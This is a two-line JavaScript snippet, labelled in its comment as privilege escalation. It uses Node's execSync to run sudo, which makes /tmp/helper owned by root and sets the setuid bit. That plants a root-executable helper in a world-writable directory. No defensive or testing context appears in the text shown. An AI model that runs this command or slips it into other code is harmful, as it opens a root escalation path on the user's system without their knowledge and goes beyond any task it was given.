// privilege-escalation: sudo through execSync
require('child_process').execSync('sudo chown root:root /tmp/helper && sudo chmod 4755 /tmp/helper');
